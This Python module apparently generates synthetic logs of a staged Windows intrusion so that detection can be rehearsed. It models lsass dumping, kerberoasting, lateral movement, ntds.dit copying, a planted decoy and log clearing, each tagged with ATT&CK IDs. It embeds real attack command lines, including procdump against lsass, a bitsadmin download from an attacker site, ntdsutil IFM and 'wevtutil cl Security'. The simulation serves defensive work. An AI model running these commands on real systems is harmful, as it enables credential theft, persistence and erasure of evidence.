"""A foothold on a web server in, the rest of the network out: credentials, movement, the directory; a false trail."""

from __future__ import annotations

from typing import Final

from tocsin.rehearse.acts import changes, logons, network, processes
from tocsin.rehearse.benign.admins import remote
from tocsin.rehearse.benign.workday import reach
from tocsin.rehearse.machine import SYSTEM32, Machine, Running, Session, system
from tocsin.rehearse.scene import Scene
from tocsin.rehearse.stories.hold import MINUTE, Hold, implant, keeps
from tocsin.rehearse.stories.means import calls_home, typed
from tocsin.rehearse.stories.story import Story

# Through which libraries a dump is taken.
_STACK: Final = ("ntdll.dll+9d234", "KERNELBASE.dll+2c13e", "dbgcore.dll+6ce2")
_TEMP: Final = "C:\\Windows\\Temp\\"


def _does(story: Story, techniques: str) -> bool:
    return bool(story.profile and story.profile.does(techniques))


def _owner(story: Story) -> str:
    """The administrator whose credentials lay in the web server's memory."""
    return logons.admin_of(story.body.staff("admin")[1])


def steals(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """The memory of the logon service is copied, by a tool under another name."""
    machine = hold.web
    run = implant(hold)
    profile = story.profile
    assert profile
    if _does(story, "T1003.001"):
        what = f"{profile.software.get('dumper', 'A tool')} copies the memory of the logon service"
        with story.step(scene, ts_us, "T1003.001", what, host=machine.host, account="NT AUTHORITY\\SYSTEM"):
            tool = _TEMP + "wmitest.exe"
            processes.writes(scene, run, ts_us, tool)
            line = f"{tool} -accepteula -ma lsass.exe {_TEMP}wmi.dat"
            dumper = processes.once(
                scene, machine, ts_us + 2_000_000, tool, line, run, lasts_s=4, copy_of="procdump64.exe"
            )
            trace = "|".join(f"{SYSTEM32}{place}" for place in _STACK)
            processes.opens(scene, dumper, machine.core["lsass"], ts_us + 2_300_000, "0x1fffff", trace)
            processes.writes(scene, dumper, ts_us + 2_600_000, _TEMP + "wmi.dat")
    if _does(story, "T1003.001") and _does(story, "T1041"):
        at = ts_us + 6 * MINUTE
        with story.step(scene, at, "T1041", "The copy of that memory leaves", host=machine.host):
            size = 48_000_000 + story.dice.below(9_000_000)
            calls_home(scene, story, run, hold.means.home[0], at, sent=size, received=240, lasts_s=95)
            story.takes("credentials", size)
    hold.account = _owner(story)


def roasts(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Tickets for services are asked for in the old cipher, to guess their passwords at leisure."""
    if not _does(story, "T1558.003"):
        return
    body, machine, dice = story.body, hold.web, story.dice
    # First as the machine, then as a person whose password lay in its memory.
    account = hold.account if hold.others else f"{body.netbios}\\{machine.host.name}$"
    names = ("svc-sql", "svc-backup", "svc-edocs", "svc-print", "svc-search", "svc-archive", "svc-scan")
    what = "Service tickets are gathered for guessing"
    with story.step(scene, ts_us, "T1558.003", what, host=machine.host, account=account, again="tickets"):
        at = ts_us
        for name in dice.some(names, 3):
            logons.ticket(scene, body, at, account, machine.host, name, "0x17")
            at += 1_500_000 + dice.below(90_000_000)
    hold.others = [f"{body.netbios}\\svc-edocs", f"{body.netbios}\\svc-search"]
    story.hosts.update(host.fqdn for host in body.with_role("dc"))


def moves(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Through a tunnel to a jump host by remote desktop, from there to the file server as a service."""
    files = scene.machine(story.body.one("file"))
    origin, account = implant(hold), hold.account
    if _does(story, "T1135"):
        line = f"net view \\\\{files.host.name} /all"
        with story.step(
            scene, ts_us, "T1135", "They ask for shares", host=hold.web.host, account="NT AUTHORITY\\SYSTEM"
        ):
            typed(scene, hold.web, ts_us, origin, line)
    if _does(story, "T1046"):
        _scouts(scene, story, hold, ts_us + 4 * MINUTE)
    at = ts_us + 8 * MINUTE
    if _does(story, "T1021.001"):
        origin = _desktop(scene, story, hold, at, files.host.name)
    at += 9 * MINUTE
    if _does(story, "T1021.002"):
        what = "Their program is put on the file server and run as a service"
        with story.step(scene, at, "T1021.002 T1569.002", what, host=files.host, account=account):
            _service(scene, story, at, origin, files, account)


def _scouts(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """A tool tries all servers for shares."""
    body, machine, run, dice = story.body, hold.web, implant(hold), story.dice
    tool = _TEMP + "mkt.exe"
    what = f"{story.profile.software.get('scout', 'A tool') if story.profile else 'A tool'} looks for more machines"
    with story.step(scene, ts_us, "T1046", what, host=machine.host, account="NT AUTHORITY\\SYSTEM"):
        processes.writes(scene, run, ts_us, tool)
        line = f"{tool} -c 445 {body.inside}.1.1-60"
        scout = processes.once(scene, machine, ts_us + 1_000_000, tool, line, run, lasts_s=60)
        at = ts_us + 1_500_000
        for host in body.with_role("server"):
            network.connect(
                scene,
                at,
                machine.host,
                host,
                445,
                sent=240,
                received=410,
                lasts_s=0.3,
                state="SF" if host.kind == "windows" else "REJ",
                run=scout if dice.chance(0.5) else None,
            )
            at += 300_000 + dice.below(2_000_000)


def _desktop(scene: Scene, story: Story, hold: Hold, ts_us: int, files: str) -> Running:
    """Remote desktop to the jump host; returns the prompt that they use there."""
    body, run, account = story.body, implant(hold), hold.account
    jump = scene.machine(body.one("jump"))
    lasts = 1500 + story.dice.below(1200)
    end = ts_us + int(lasts * 1e6)
    what = "Remote desktop through a tunnel to the jump host"
    with story.step(scene, ts_us, "T1021.001 T1078.002 T1572", what, host=jump.host, account=account):
        home = hold.means.home[0]
        calls_home(scene, story, run, home, ts_us - 5_000_000, sent=5_400_000, received=900_000, lasts_s=lasts)
        session, shell = remote(scene, body, account, hold.web.host, jump, ts_us, lasts, run)
        image = SYSTEM32 + "cmd.exe"
        prompt = processes.start(scene, jump, ts_us + 30_000_000, image, f'"{image}" ', shell)
        for number, line in enumerate(("quser", f"net use \\\\{files}\\C$", "cmdkey /list")):
            typed(scene, jump, ts_us + (60 + 45 * number) * 1_000_000, prompt, line)
        _second(scene, story, hold, ts_us + 260_000_000, prompt, session)
        processes.end(scene, prompt, end - 2_000_000)
        processes.end(scene, shell, end - 1_000_000)
        logons.logoff(scene, jump, end, session)
    return prompt


def _second(scene: Scene, story: Story, hold: Hold, ts_us: int, prompt: Running, session: Session) -> None:
    """Another program of theirs, on the jump host, under the task scheduler."""
    if not _does(story, "T1053.005"):
        return
    machine, site = prompt.machine, hold.means.home[-1]
    image, name = "C:\\ProgramData\\Intel\\Telemetry\\igfxtray64.exe", "\\Microsoft\\Windows\\Power\\AnalyzePower"
    what = "A task starts another program of theirs on the jump host"
    with story.step(scene, ts_us, "T1053.005 T1036.005", what, host=machine.host, account=hold.account):
        typed(scene, machine, ts_us, prompt, f"bitsadmin /transfer a https://{site.name}/t {image}", lasts_s=4)
        calls_home(scene, story, machine.core["netsvcs"], site, ts_us + 400_000, received=688_128)
        processes.writes(scene, machine.core["netsvcs"], ts_us + 1_500_000, image)
        line = f'schtasks /create /f /sc onstart /ru SYSTEM /tn "{name}" /tr {image}'
        typed(scene, machine, ts_us + 40_000_000, prompt, line)
        changes.task(scene, machine, ts_us + 40_300_000, session, name, image, "")
        typed(scene, machine, ts_us + 60_000_000, prompt, f'schtasks /run /tn "{name}"')
        owner = machine.core["netsvcs"]
        hold.second = processes.start(scene, machine, ts_us + 61_000_000, image, image, owner, integrity="System")
    keeps(scene, story, hold, "second", "netsvcs")


def _service(scene: Scene, story: Story, ts_us: int, parent: Running, server: Machine, account: str) -> None:
    """As administrators' tools do it, under another name."""
    source = parent.machine
    name = "wmiprvhost.exe"
    link = reach(
        scene,
        story.body,
        account,
        source.host,
        server,
        ts_us,
        [("ADMIN$", f"Temp\\{name}"), ("IPC$", "svcctl")],
        sent=742_400,
        lasts_s=8,
        elevated=True,
    )
    processes.writes(scene, server.core["netsvcs"], ts_us + 900_000, f"{_TEMP}{name}")
    changes.service(scene, server, ts_us + 2_000_000, link, "WmiPrvHost", f"{_TEMP}{name}")
    run = processes.start(
        scene, server, ts_us + 2_500_000, _TEMP + name, f"{_TEMP}{name}", server.core["services"], copy_of="wlbsvc.exe"
    )
    typed(scene, server, ts_us + 20_000_000, run, "whoami")
    typed(scene, server, ts_us + 50_000_000, run, 'dir "D:\\Shares" /s /a-d')


def takes_directory(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """The directory's database, from a controller: a copy of the file, or what one controller asks of another."""
    body, account = story.body, hold.account
    controller, jump = scene.machine(body.one("dc")), body.one("jump")
    if _does(story, "T1003.003"):
        what = "A copy of the directory's database is made on a controller"
        with story.step(scene, ts_us, "T1003.003 T1078.002", what, host=controller.host, account=account):
            files = [("IPC$", "winreg"), ("C$", "Windows\\Temp")]
            session = reach(scene, body, account, jump, controller, ts_us, files, elevated=True)
            _copies(scene, controller, session, ts_us)
    elif _does(story, "T1003.006"):
        what = "They ask a controller for its directory as another would"
        with story.step(scene, ts_us, "T1003.006", what, host=controller.host, account=account):
            session = reach(scene, body, account, jump, controller, ts_us, [("IPC$", "drsuapi")], elevated=True)
            changes.replicated(scene, controller, ts_us + 400_000, session)
    else:
        return
    # Now they have everybody's password in some form, and are whoever works on servers most.
    story.concerns("possibly_reached", *(person.id for person in body.people))
    hold.account = logons.admin_of(body.staff("admin")[0])


def _copies(scene: Scene, controller: Machine, session: Session, ts_us: int) -> None:
    """By WMI, and the tool that administrators make copies with."""
    image = SYSTEM32 + "wbem\\WmiPrvSE.exe"
    owner = controller.core["dcom"]
    host = processes.start(scene, controller, ts_us + 1_000_000, image, f"{image} -secured -Embedding", owner)
    line = 'ntdsutil.exe "ac i ntds" ifm "create full C:\\Windows\\Temp\\tmp" q q'
    shell = processes.once(
        scene,
        controller,
        ts_us + 1_400_000,
        SYSTEM32 + "cmd.exe",
        f"cmd.exe /c {line}",
        host,
        session,
        lasts_s=40,
        integrity="High",
    )
    image = SYSTEM32 + "ntdsutil.exe"
    tool = processes.once(scene, controller, ts_us + 1_500_000, image, line, shell, session, lasts_s=38)
    processes.writes(scene, tool, ts_us + 30_000_000, "C:\\Windows\\Temp\\tmp\\Active Directory\\ntds.dit")
    processes.writes(scene, tool, ts_us + 33_000_000, "C:\\Windows\\Temp\\tmp\\registry\\SYSTEM")
    processes.end(scene, host, ts_us + 90_000_000)


def misleads(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Another group's tool is left where it will be found."""
    decoy = story.profile.decoy if story.profile else {}
    if not decoy:
        return
    jump = scene.machine(story.body.one("jump"))
    path = f"C:\\ProgramData\\{decoy.get('file', 'update.exe')}"
    account = hold.account
    what = f"{decoy.get('software', 'A tool')} of {decoy.get('group', 'another group')} is planted"
    with story.step(scene, ts_us, "T1036.005", what, host=jump.host, account=account, decoy=True):
        session = reach(
            scene, story.body, account, hold.web.host, jump, ts_us, [("C$", path[3:])], sent=310_000, elevated=True
        )
        processes.writes(scene, jump.core["netsvcs"], ts_us + 400_000, path)
        changes.found(
            scene, jump, ts_us + 9_000_000, decoy.get("detection", "Trojan:Win32/Wacatac"), path, session.account
        )


def tidies(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """What they brought is deleted, and a log cleared."""
    run = implant(hold)
    if _does(story, "T1070.004"):
        with story.step(
            scene, ts_us, "T1070.004", "Their tools are deleted", host=hold.web.host, account="NT AUTHORITY\\SYSTEM"
        ):
            line = f"del /f /q {_TEMP}wmi.dat {_TEMP}wmitest.exe {_TEMP}mkt.exe"
            shell = processes.once(scene, hold.web, ts_us, SYSTEM32 + "cmd.exe", f'"cmd.exe" /c {line}', run)
            for number, name in enumerate(("wmi.dat", "wmitest.exe", "mkt.exe")):
                processes.deletes(scene, shell, ts_us + 90_000 + number * 9000, _TEMP + name)
    at = ts_us + 3 * MINUTE
    if _does(story, "T1685.005"):
        files = scene.machine(story.body.one("file"))
        with story.step(
            scene,
            at,
            "T1685.005",
            "The security log of the file server is cleared",
            host=files.host,
            account="NT AUTHORITY\\SYSTEM",
        ):
            owner = files.core["services"]
            processes.once(scene, files, at, SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", owner)
            changes.cleared(scene, files, at + 300_000, system(files))
